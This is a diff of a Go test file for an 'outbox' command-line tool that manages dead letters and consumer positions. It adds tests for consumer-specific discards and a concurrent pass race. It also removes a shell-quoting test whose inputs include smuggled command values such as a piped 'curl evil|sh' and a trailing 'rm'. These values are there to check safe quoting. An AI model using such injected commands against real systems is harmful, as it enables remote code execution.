@@ -4,7 +4,9 @@ import (
 	"context"
 	"errors"
 	"log/slog"
+	"net/http"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
@@ -304,6 +306,48 @@ func TestADiscardBehindAMissingNumberSaysWhatToDo(t *testing.T) {
 	require.Equal(t, int64(3), o.show(t).Position)
 }
 
+// With the name of another consumer another position would be moved, or shown.
+func TestALetterIsDiscardedForTheConsumerThatItIsOf(t *testing.T) {
+	o := newOrdered(t)
+	o.failing[2] = true
+	o.deliver(t, o.write(t, 1, 2)...)
+	discard := []string{"dead", "discard", "--consumer", "balances", "--inbox", "inbox", "--inbox-consumer", "others", "--all", "--yes"}
+	r := o.run(t, discard...)
+	require.Equal(t, exitFailed, r.code)
+	require.Equal(t, "outbox: dead letter account-7#account-7%232 waits for the position of the consumer balances of an inbox, and not of others: give --inbox-consumer balances\n", r.err)
+	require.Equal(t, []int64{2}, o.show(t).numbers())
+	discard[7] = "balances"
+	require.Equal(t, "1 dead letter discarded\n", o.ok(t, discard...))
+	require.Equal(t, int64(2), o.show(t).Position)
+}
+
+// A worker handles the event between the look at the position and the pass, which then has done nothing.
+func TestANumberThatIsHandledMeanwhileIsNotPassed(t *testing.T) {
+	for _, output := range []string{"text", "json"} {
+		o := newOrdered(t)
+		o.deliver(t, o.write(t, 1)...)
+		events := o.write(t, 2, 3)
+		handled := make(chan error, 2)
+		var once sync.Once
+		o.intercept = func(operation string, _ http.ResponseWriter, _ *http.Request) bool {
+			if operation == "UpdateItem" {
+				once.Do(func() {
+					handled <- errors.Join(o.consumer.Process(t.Context(), events[0]), o.consumer.Process(t.Context(), events[1]))
+				})
+			}
+			return false
+		}
+		r := o.run(t, "order", "pass", "--consumer", "balances", "account-7", "2", "--yes", "-o", output)
+		require.NoError(t, <-handled)
+		require.Equal(t, exitOK, r.code)
+		if output == "text" {
+			require.Equal(t, "2 was handled or passed meanwhile: the position is 3\n", r.out)
+			continue
+		}
+		require.Equal(t, passed{Aggregate: "account-7", Sequence: 2, Passed: ptr(false), Position: ptr(int64(3))}, decode[passed](t, r.out))
+	}
+}
+
 func TestDeadLettersSayWhatTheirAggregateWaitsFor(t *testing.T) {
 	o := newOrdered(t)
 	o.failing[2] = true
@@ -327,10 +371,10 @@ func TestDeadLettersSayWhatTheirAggregateWaitsFor(t *testing.T) {
 	o.run(t, "order", "pass", "--consumer", "balances", "account-7", "2", "--yes")
 	require.Contains(t, o.ok(t, show...), "#2 is at or below the position: the aggregate waits for #3\n")
 
-	// The inbox may know the consumer by another name.
+	// The position is that of the consumer whose letters they are.
 	r := o.run(t, append(list, "--inbox-consumer", "others")...)
-	require.Contains(t, r.out, "the aggregate waits for #1\n")
-	require.Equal(t, 1, strings.Count(r.err, "note: inbox inbox has no position of aggregate account-7 for consumer others"))
+	require.NotContains(t, r.out, "waits for #")
+	require.Equal(t, 1, strings.Count(r.err, "note: dead letter account-7#account-7%232 waits for the position of the consumer balances of an inbox, and not of others: give --inbox-consumer balances\n"))
 }
 
 // A key that DynamoDB leaves unread is asked for again, and never taken for a row that is missing.
@@ -394,13 +438,4 @@ func TestDoctorTakesNoPositionForAMark(t *testing.T) {
 func TestNumbersAreWrittenAsRanges(t *testing.T) {
 	require.Equal(t, "5 to 7, 9, 11 to 12", ranges([]int64{5, 6, 7, 9, 11, 12}))
 	require.Equal(t, "1", ranges([]int64{1}))
-}
-
-// A command that is named can be typed, whatever the ids are.
-func TestACommandIsQuotedForTheShell(t *testing.T) {
-	require.Equal(t, `outbox order pass --consumer 'a b' 'it'\''s #1; rm' 2`, command("order", "pass", "--consumer", "a b", "it's #1; rm", "2"))
-	require.Equal(t, `outbox dead discard --id a#b%231`, command("dead", "discard", "--id", "a#b%231"))
-	require.Equal(t, `outbox order show ''`, command("order", "show", ""))
-	require.Equal(t, `outbox dead discard --id '--x;curl evil|sh#1'`, command("dead", "discard", "--id", "--x;curl evil|sh#1"))
-	require.Equal(t, `outbox order pass --inbox i --consumer c --table t '--' '-7' 2`, orderCommand("pass", "i", "c", "t", "-7", "2"))
 }
